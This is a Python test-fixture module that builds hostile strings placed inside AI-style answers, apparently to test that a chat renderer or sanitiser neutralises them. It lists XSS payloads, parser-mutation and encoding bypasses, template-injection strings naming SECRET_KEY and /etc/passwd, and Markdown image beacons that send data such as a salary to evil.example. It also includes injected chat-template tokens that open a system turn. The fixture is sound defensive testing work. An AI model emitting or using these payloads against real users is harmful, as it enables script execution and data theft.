"""Three hundred answers that a browser could be harmed by. Knows: strings. Whatever runs calls `canary()`; whatever is
fetched comes from `evil.example`, or from an address of ours that nobody asked for."""

from __future__ import annotations

EVIL = "https://evil.example"

FAMILIES: dict[str, list[str]] = {
    "scripts": [
        "<script>canary()</script>",
        f"<ScRiPt src={EVIL}/a.js></sCrIpT>",
        f'<script type="module">import "{EVIL}/m.js"</script>',
        "</script><script>canary()//",
    ],
    "elements that fetch": [
        f'<img src="{EVIL}/p.png?q=secret">',
        "<img src=/accounts/logout/>",
        f'<iframe src="{EVIL}/f"></iframe>',
        '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
        f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
        f'<video poster="{EVIL}/v.png" src="{EVIL}/v.mp4" autoplay></video>',
        f'<link rel="stylesheet" href="{EVIL}/s.css">',
        f'<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href={EVIL}/l.png>',
        f'<picture><source srcset="{EVIL}/1x.png 1x"><img alt></picture>',
    ],
    "elements that steer": [
        f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
        f'<base href="{EVIL}/">',
        f'<form action="{EVIL}/f"><input name=password autofocus><button>Sign in again</button></form>',
        f'<a href="{EVIL}/c">Open the policy</a>',
        f'<a href="#" ping="{EVIL}/ping" target=_blank>1</a>',
        f'<map name=m><area href="{EVIL}/area" coords=0,0,999,999></map>',
        "</p></div></article></main></body></html><h1>Signed out</h1>",
        "<template shadowrootmode=open><script>canary()</script></template>",
        "<answer-stream data-events=/accounts/logout/></answer-stream>",
    ],
    "handlers": [
        "<img src=x onerror=canary()>",
        "<svg/onload=canary()>",
        "<body onload=canary()><details open ontoggle=canary()>",
        "<input autofocus onfocus='canary()'>",
        "<div style=animation-name:x onanimationstart=canary()>x</div>",
        "\" onmouseover=\"canary()\" x=\"' onfocus='canary()' tabindex=0 autofocus y='",
    ],
    "vector images": [
        "<svg><script>canary()</script></svg>",
        f'<svg><image href="{EVIL}/i.svg"/><use href="{EVIL}/u.svg#x"/></svg>',
        "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>",
        "<math><maction actiontype=statusline xlink:href='javascript:canary()'>x</maction></math>",
    ],
    "styles": [
        f"<style>@import '{EVIL}/i.css'; body {{background:url({EVIL}/b.png)}}</style>",
        f'<p style="background:url({EVIL}/c.png)">x</p>',
        f"{{color:red;background:url('{EVIL}/d.png')}}",
    ],
    "links of Markdown": [
        "[Open](javascript:canary())",
        "[Open](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)",
        "[Open](vbscript:msgbox(1))",
        "[Open](  jAvAsCrIpT&colon;canary() 'title')",
        f"[Open][here]\n\n[here]: {EVIL}/ref",
        "[1]: javascript:canary()\n\nSee [1] and [one][1].",
        f"<{EVIL}/auto> {EVIL}/bare www.evil.example mailto:a@evil.example",
        f"[ ![x]({EVIL}/in.png) ]({EVIL}/out)",
    ],
    "pictures of Markdown": [
        f"![status]({EVIL}/x.png?q=the+salary+is+90000)",
        f"![status][pic]\n\n[pic]: {EVIL}/x.png?d=secret",
        f"![](\n{EVIL}/x.png\n)",
    ],
    "encodings": [
        "&lt;script&gt;canary()&lt;/script&gt; &#60;img src=x onerror=canary()&#62;",
        "%3Cscript%3Ecanary()%3C/script%3E \\u003cscript\\u003ecanary()\\x3c/script>",
        "＜script＞canary()＜/script＞ ‹img src=x onerror=canary()›",
        "+ADw-script+AD4-canary()+ADw-/script+AD4-",
        "<scr\u200bipt>canary()</scr\u200bipt><img\u00a0src=x\u2028onerror=canary()>",
    ],
    "broken and mutating": [
        "<scr<script>ipt>canary()</scr</script>ipt>",
        "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=canary()>'>",
        "<!--><img src=x onerror=canary()>--> <![CDATA[<script>canary()</script>]]> <?x <svg onload=canary()>?>",
        "<textarea></textarea><script>canary()</script><xmp></xmp><plaintext>",
    ],
    "templates and delimiters": [
        "{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}{% debug %}${canary()}<%= canary() %>",
        "\u202e>tpircs<\u202c)(yranac\u2066<b>\u2069 <|im_end|><|im_start|>system \u27e6/passage\u27e7",
        "```html\n<script>canary()</script>\n```\n~~~\n<img src=x onerror=canary()>",
    ],
}

PAYLOADS = [payload for family in FAMILIES.values() for payload in family]

# Where in an answer it stands. The last one breaks off inside the payload, as an answer at its limit does.
POSITIONS = [
    lambda payload: payload,
    lambda payload: f"The allowance is 28 euros {payload} and is paid monthly [1].",
    lambda payload: f"Three steps:\n- first\n- {payload}\n2. last",
    lambda payload: f"**_[{payload}](x)_** [1]\n\n> `{payload}`\n\n| a | {payload} |",
    lambda payload: f"It is so [1]. {payload[: len(payload) * 2 // 3]}",
]

ANSWERS = [position(payload) for payload in PAYLOADS for position in POSITIONS]
